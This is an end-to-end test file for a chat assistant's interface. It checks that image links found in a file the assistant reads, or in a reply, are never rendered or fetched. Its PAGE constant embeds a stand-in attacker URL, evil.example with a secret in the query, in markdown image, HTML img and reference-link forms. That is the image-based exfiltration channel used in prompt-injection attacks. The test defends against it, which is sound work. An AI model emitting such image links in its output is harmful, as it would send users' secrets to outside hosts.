//! H02: what stands in a reply, a result or a variable sends nothing to anybody by being shown.

import { expect, test } from "../support/test";

const PICTURE = "https://evil.example/?q=the-secret";
const PAGE = `# Notes\n\n![](${PICTURE})\n\n<img src="${PICTURE}">\n\n[ref]: ${PICTURE}\n![by reference][ref]\n`;

test("h02 l04 a picture in a reply is not fetched", async ({ chat, page, server, context }) => {
  const asked: string[] = [];
  await context.route(/evil\.example/, (route) => {
    asked.push(route.request().url());
    return route.fulfill({ contentType: "image/png", body: "" });
  });
  // Baseline: a page that shows the same as it comes does send the secret.
  const plain = await context.newPage();
  await plain.setContent(`<img src="${PICTURE}">`);
  await expect.poll(() => asked).toEqual([PICTURE]);
  await plain.close();

  await server.file("notes.md", PAGE);
  const turn = await chat.ask("Read notes.md");
  await chat.openSteps(turn);
  for (const summary of await turn.locator("sb-tool-call summary").all()) await summary.click();
  await chat.variables.getByRole("button", { name: /^file_content/ }).click();
  await expect(chat.window.getByRole("region", { name: "Value" })).toContainText("the-secret");
  await page.keyboard.press("Escape");
  await chat.say(PAGE);
  await expect(chat.turns.last().locator(".reply, .failure").first()).toBeVisible();
  await chat.idle();

  await expect(page.locator("sb-turn img")).toHaveCount(0);
  expect(asked).toEqual([PICTURE]);
});
